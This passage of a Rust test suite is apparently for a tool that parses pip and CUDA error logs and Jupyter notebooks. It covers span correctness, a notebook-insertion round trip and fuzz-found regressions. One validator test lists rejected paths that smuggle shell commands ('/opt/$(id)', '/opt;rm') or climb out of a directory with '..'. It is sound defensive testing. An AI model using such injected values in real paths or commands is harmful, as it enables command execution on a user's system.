        let nb = abidoc_syntax::notebook::parse(&raw).value;
        for cell in nb.cells.iter().filter(|c| !c.source.text.is_empty()) {
            // The raw offset of the cell source's first byte: inside its first JSON string.
            let at = cell.source.span_to_raw(Span::new(0, 0)).start;
            let insert = "%pip install \\\"numpy<2\\\"\\n";
            let edited = format!("{}{insert}{}", &raw[..at], &raw[at..]);
            assert_eq!(&edited[..at], &raw[..at]);
            assert_eq!(&edited[at + insert.len()..], &raw[at..]);
            let again = abidoc_syntax::notebook::parse(&edited);
            assert!(
                again.problems.is_empty(),
                "{}: {:?}",
                p.display(),
                again.problems
            );
            let again = again.value;
            assert_eq!(again.cells.len(), nb.cells.len(), "{}", p.display());
            for (a, b) in nb.cells.iter().zip(&again.cells) {
                if a.index == cell.index {
                    assert_eq!(
                        b.source.text,
                        format!("%pip install \"numpy<2\"\n{}", a.source.text)
                    );
                } else {
                    assert_eq!(a.source.text, b.source.text);
                }
                assert_eq!(a.outputs.len(), b.outputs.len());
                for (x, y) in a.outputs.iter().zip(&b.outputs) {
                    assert_eq!(x.text.text, y.text.text);
                }
            }
            // JSON-level check: the whole document is unchanged apart from that one source.
            let mut before: serde_json::Value = serde_json::from_str(&raw).unwrap();
            let after: serde_json::Value = serde_json::from_str(&edited).unwrap();
            before["cells"][cell.index]["source"] = after["cells"][cell.index]["source"].clone();
            assert_eq!(before, after, "{}", p.display());
        }
    }
}

// ---------------------------------------------------------------- properties

fn logish() -> impl Strategy<Value = String> {
    let pieces = prop::collection::vec(
        prop_oneof![
            Just("Traceback (most recent call last):\n".to_owned()),
            Just("  File \"/x/site-packages/a.py\", line 3, in f\n".to_owned()),
            Just("ImportError: /x/site-packages/mamba_ssm/_C.so: undefined symbol: _ZN3c104cuda9SetDeviceEi\n".to_owned()),
            Just("OSError: libcudart.so.12: cannot open shared object file: No such file or directory\n".to_owned()),
            Just("version `GLIBCXX_3.4.30' not found (required by /a/b.so)\n".to_owned()),
            Just("\u{1b}[0;31m----> 12\u{1b}[0m import x\n".to_owned()),
            Just("Cell In[26], line 12\n".to_owned()),
            Just("\r\n".to_owned()),
            Just("é€😀\u{0}".to_owned()),
            Just("\u{3000}\u{a0}\u{2003}".to_owned()),
            "[ -~]{0,40}",
            any::<String>(),
        ],
        0..12,
    );
    pieces.prop_map(|v| v.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, .. ProptestConfig::default() })]

    #[test]
    fn scan_spans_lie_in_the_text(text in logish()) {
        let parse = abidoc_syntax::scan(&text);
        for ev in &parse.value {
            prop_assert!(ev.span.start <= ev.span.end && ev.span.end <= text.len());
            prop_assert!(text.is_char_boundary(ev.span.start) && text.is_char_boundary(ev.span.end));
        }
    }

    #[test]
    fn line_index_round_trips(text in logish(), pick in any::<prop::sample::Index>()) {
        let index = LineIndex::new(&text);
        let boundaries: Vec<usize> = text.char_indices().map(|(i, _)| i).chain([text.len()]).collect();
        let offset = boundaries[pick.index(boundaries.len())];
        let pos = index.line_col(&text, offset);
        prop_assert_eq!(index.offset(&text, pos), offset);
    }

    #[test]
    fn notebook_spans_map_inside_the_raw_json(text in logish(), cut in any::<prop::sample::Index>()) {
        let raw = notebook_with(&text);
        // Whole and truncated (at a char boundary) notebooks.
        let boundaries: Vec<usize> = raw.char_indices().map(|(i, _)| i).chain([raw.len()]).collect();
        let end = boundaries[cut.index(boundaries.len())];
        for raw in [raw.as_str(), &raw[..end]] {
            let nb = abidoc_syntax::notebook::parse(raw).value;
            for cell in &nb.cells {
                for t in std::iter::once(&cell.source).chain(cell.outputs.iter().map(|o| &o.text)) {
                    let s = t.span_to_raw(Span::new(0, t.text.len()));
                    prop_assert!(s.start <= s.end && s.end <= raw.len(), "{:?} / {}", s, raw.len());
                }
            }
        }
    }

    /// The notebook edit path on generated notebooks (sources with escapes, control and
    /// non-ASCII chars, as one string or as a list of lines): inserting at the raw offset of a
    /// cell's first byte changes that cell's source only, and every other byte is kept.
    #[test]
    fn notebook_insert_round_trips(
        sources in prop::collection::vec(logish(), 1..5),
        as_lines in any::<bool>(),
        pick in any::<prop::sample::Index>(),
    ) {
        let cells: Vec<serde_json::Value> = sources
            .iter()
            .map(|src| {
                let source = if as_lines {
                    serde_json::json!(src.split_inclusive('\n').collect::<Vec<_>>())
                } else {
                    serde_json::json!(src)
                };
                serde_json::json!({"cell_type": "code", "metadata": {}, "outputs": [], "source": source})
            })
            .collect();
        let raw = serde_json::to_string_pretty(&serde_json::json!({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})).unwrap();
        let nb = abidoc_syntax::notebook::parse(&raw).value;
        prop_assert_eq!(nb.cells.len(), sources.len());
        for (cell, src) in nb.cells.iter().zip(&sources) {
            prop_assert_eq!(&cell.source.text, src);
        }
        let nonempty: Vec<usize> = (0..sources.len()).filter(|&i| !sources[i].is_empty()).collect();
        prop_assume!(!nonempty.is_empty());
        let chosen = nonempty[pick.index(nonempty.len())];
        let at = nb.cells[chosen].source.span_to_raw(Span::new(0, 0)).start;
        let insert = "%pip install \\\"numpy<2\\\"\\n";
        let edited = format!("{}{insert}{}", &raw[..at], &raw[at..]);
        let again = abidoc_syntax::notebook::parse(&edited);
        prop_assert!(again.problems.is_empty(), "{:?}", again.problems);
        for (i, (cell, src)) in again.value.cells.iter().zip(&sources).enumerate() {
            if i == chosen {
                prop_assert_eq!(&cell.source.text, &format!("%pip install \"numpy<2\"\n{src}"));
            } else {
                prop_assert_eq!(&cell.source.text, src);
            }
        }
    }

    #[test]
    fn diagnose_never_panics_and_spans_fit(text in logish()) {
        for d in host().diagnose_text(&text, &ctx()) {
            for r in d.source.iter().chain(&d.related) {
                prop_assert!(r.span.end <= text.len() && r.span.start <= r.span.end);
            }
        }
        let raw = notebook_with(&text);
        for d in host().diagnose_notebook(&raw, &ctx()) {
            for r in d.source.iter().chain(&d.related) {
                prop_assert!(r.span.end <= raw.len() && r.span.start <= r.span.end);
            }
        }
    }
}

/// Found by fuzz/scan: pip lines with extra spaces after the prefix (`Using cached   FILE`) got
/// spans measured without those spaces, ending inside the token or a multi-byte char.
#[test]
fn regression_pip_token_spans_after_extra_spaces() {
    for text in [
        "Collecting bmtrain==0.1.8.post1\n  Using cached   \u{fffd}\u{fffd}\u{fffd}\u{fffd}   File \"<string>\"\n",
        "Collecting    flash_attn==2.5.8\n",
        "Downloading    flash_attn-2.5.8.tar.gz (2.5 MB)\n",
        "  Using cached    mamba_ssm-2.2.2-cp310-cp310-linux_x86_64.whl\n",
    ] {
        for ev in abidoc_syntax::scan(text).value {
            assert!(
                text.is_char_boundary(ev.span.start) && text.is_char_boundary(ev.span.end),
                "{:?} in {text:?}",
                ev
            );
            let covered = ev.span.slice(text);
            if let abidoc_syntax::EventKind::PipUsingCached { file } = &ev.kind {
                assert!(covered.ends_with(file.as_str()), "{covered:?} vs {file:?}");
            }
        }
    }
}

// ---------------------------------------------------------------- paths in fixes

/// Paths that reach `LD_LIBRARY_PATH` or a conda prefix name what they spell: no `..` or `.`
/// component anywhere (a trailing `/..` climbed out of the directory the text named).
#[test]
fn plain_paths_have_no_dot_components() {
    for ok in [
        "/opt/conda",
        "/usr/lib/x86_64-linux-gnu",
        "/home/u/.local/lib/python3.12/site-packages/torch/lib",
        "/a/..b/c..",
        "/a/.../b",
        "/a/b.",
    ] {
        assert!(abidoc_ide::fix::SafePath::new(ok).is_some(), "{ok} refused");
    }
    for bad in [
        "/opt/conda/..",
        "/opt/conda/../../etc",
        "/..",
        "/../x",
        "/opt/./conda",
        "/opt/conda/.",
        "/.",
        "opt/conda",
        "",
        "/opt/conda lib",
        "/opt/$(id)",
        "/opt/`id`",
        "/opt;rm",
        "/opt/conda\n/x",
        "/opt/c\u{e9}",
    ] {
        assert!(
            abidoc_ide::fix::SafePath::new(bad).is_none(),
            "{bad:?} accepted"
        );
    }
    assert!(abidoc_ide::fix::SafePath::new(&format!("/{}", "a".repeat(5000))).is_none());
}

/// Found by the CI fuzz pass (fuzz/scan, minimized): a backslash before a non-ASCII char inside
/// an exception repr (`Error('\` + U+FFFD) stepped one byte into the char and sliced inside it.
#[test]
fn regression_escape_before_multibyte_char_in_exception_repr() {
    for text in [
        "Error('\\\u{fffd}",
        "ImportError('\\é')\n",
        "RuntimeError(\"a\\😀b\\n\")\n",
        "warn: ImportError('/x/_C.so: undefined symbol: \\\u{3000}x')\n",
    ] {
        check(text);
    }
    // Second find of the same pass: a repr message cut at the field cap ended one byte past a
    // char boundary (`Error('` + hundreds of U+FFFD).
    for fill in ["\u{fffd}", "é", "😀"] {
        check(&format!("Error('{}", fill.repeat(2000)));
        check(&format!(
            "x ImportError(\"{}\") ImportError('a')\n",
            fill.repeat(700)
        ));
    }
    fn check(text: &str) {
        for ev in abidoc_syntax::scan(text).value {
            assert!(
                text.is_char_boundary(ev.span.start) && text.is_char_boundary(ev.span.end),
                "{ev:?} in {text:?}"
            );
        }
    }
    let events = abidoc_syntax::scan("ImportError('a\\éb')\n").value;
    assert!(
        events.iter().any(|e| matches!(&e.kind, abidoc_syntax::EventKind::Exception { message, .. } if message == "aéb")),
        "{events:?}"
    );
}
